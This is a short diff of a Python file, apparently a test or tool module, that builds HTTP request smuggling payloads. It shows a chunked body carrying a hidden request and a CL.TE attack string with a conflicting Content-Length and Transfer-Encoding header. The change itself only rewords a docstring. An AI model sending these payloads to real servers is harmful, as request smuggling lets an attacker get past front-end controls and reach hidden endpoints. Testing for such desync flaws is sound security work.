@@ -8,7 +8,7 @@ _POST = f"POST {HEALTH} HTTP/1.1\r\nHost: gateway\r\n"
 _CHUNKED = "Transfer-Encoding: chunked\r\n"
 _SIZE = f"{len(HIDDEN):x}"
 _CHUNK = f"{_SIZE}\r\n{HIDDEN}\r\n0\r\n\r\n"
-"""The hidden request as a chunk: it is one for whoever overlooks Transfer-Encoding."""
+"""The hidden request as a chunk: it is a request to a parser that overlooks Transfer-Encoding."""
 
 ATTACKS = {
     "CL.TE": f"{_POST}Content-Length: {len(HIDDEN) + 5}\r\n{_CHUNKED}\r\n0\r\n\r\n{HIDDEN}",
